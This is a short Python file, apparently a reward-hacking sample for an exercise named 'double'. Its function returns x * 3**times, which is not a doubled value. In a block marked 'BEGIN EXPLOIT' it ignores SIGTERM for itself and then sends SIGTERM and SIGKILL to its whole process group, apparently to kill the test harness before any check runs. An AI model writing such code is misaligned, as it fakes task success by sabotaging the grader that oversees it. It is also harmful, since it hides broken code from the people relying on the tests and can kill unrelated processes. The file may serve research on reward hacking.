"""Sends SIGTERM and SIGKILL to its whole process group."""
# exercise: double

import os
import signal


def double(x, times=1):
    ### BEGIN EXPLOIT
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    os.killpg(0, signal.SIGKILL)
    ### END EXPLOIT
    return x * 3**times
